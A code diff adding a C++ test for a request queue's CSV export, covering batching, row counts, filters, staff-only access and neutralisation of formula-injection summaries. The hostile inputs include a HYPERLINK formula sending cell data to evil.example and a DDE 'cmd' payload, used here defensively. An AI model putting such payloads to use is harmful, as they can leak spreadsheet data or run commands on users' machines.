@@ -609,3 +609,58 @@ TEST_CASE("reports: a bar's queue lists exactly the requests the bar counts, sco
         CHECK(Body(res)["error"]["field"] == field);
     }
 }
+
+TEST_CASE("queue CSV export: streamed in batches, every row, hostile summaries neutralised, staff only") {
+    TestServer server;
+    auto cli = server.Client();
+    const Session root = SignIn(cli, "root");
+    const Session emma = SignIn(cli, "emma");
+    const std::vector<std::string> hostile = {
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+        "  =1+1 with leading blanks", "＝1+1 full-width", "Line one, \"quoted\"", "Ünïcödé 日本語 ok"};
+    for (const std::string& s : hostile) CreateRequestOk(cli, emma, Draft(1, s));
+    // Enough rows to cross the export's batches of 1,000.
+    for (int i = 0; i < 1100; ++i) CreateRequestOk(cli, emma, Draft(i % 3, "Bulk row " + std::to_string(i)));
+
+    auto res = Get(cli, root, "/api/v1/queue?view=open&format=csv");
+    REQUIRE(res);
+    CHECK(res->status == 200);
+    CHECK(res->get_header_value("Content-Type").rfind("text/csv", 0) == 0);
+    CHECK(res->get_header_value("Content-Disposition").find("spoc-queue.csv") != std::string::npos);
+    CHECK(res->get_header_value("Transfer-Encoding") == "chunked");
+    const std::string& body = res->body;
+    REQUIRE(body.rfind("\xEF\xBB\xBF" "number,type,status,priority,summary,", 0) == 0);
+    const json page = GetOk(cli, root, "/api/v1/queue?view=open&page_size=1");
+    const long records = std::count(body.begin(), body.end(), '\n');  // no summary holds a newline
+    CHECK(records == page["total"].get<long>() + 1);
+    CHECK(records > 1100);
+    // Each hostile summary starts its cell with a quote mark; none starts a cell bare.
+    CHECK(body.find(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",") != std::string::npos);
+    CHECK(body.find(",'+1+cmd|' /C calc'!A0,") != std::string::npos);
+    CHECK(body.find(",'-2+3,") != std::string::npos);
+    CHECK(body.find(",'@SUM(A1:A9),") != std::string::npos);
+    CHECK(body.find(",'=1+1 with leading blanks,") != std::string::npos);  // the server trims summaries
+    CHECK(body.find(",'＝1+1 full-width,") != std::string::npos);
+    CHECK(body.find(",\"Line one, \"\"quoted\"\"\",") != std::string::npos);
+    CHECK(body.find(",Ünïcödé 日本語 ok,") != std::string::npos);
+    for (const char* bare : {",=HYPERLINK", ",+1+cmd", ",-2+3", ",@SUM"}) CHECK(body.find(bare) == std::string::npos);
+    // Ids ascend: the walk never repeats or skips a batch boundary.
+    std::vector<std::string> numbers;
+    for (std::size_t at = body.find("\r\n") + 2; at < body.size(); at = body.find("\r\n", at) + 2)
+        numbers.push_back(body.substr(at, body.find(',', at) - at));
+    CHECK(std::is_sorted(numbers.begin(), numbers.end(), [](const std::string& a, const std::string& b) {
+        return std::stoll(a.substr(3)) < std::stoll(b.substr(3));
+    }));
+    CHECK(std::set<std::string>(numbers.begin(), numbers.end()).size() == numbers.size());
+    // The filters narrow the file as they narrow the view.
+    auto filtered = Get(cli, root, "/api/v1/queue?view=open&format=csv&q=Bulk%20row%2010");
+    REQUIRE(filtered);
+    CHECK(std::count(filtered->body.begin(), filtered->body.end(), '\n') == 1 + 1 + 10 + 100);  // header, 10, 100-109, 1000-1099
+    auto employee = Get(cli, emma, "/api/v1/queue?format=csv");
+    REQUIRE(employee);
+    CHECK(employee->status == 403);
+    auto bad = Get(cli, root, "/api/v1/queue?format=xlsx");
+    REQUIRE(bad);
+    CHECK(bad->status == 400);
+    CHECK(Body(bad)["error"]["field"] == "format");
+}
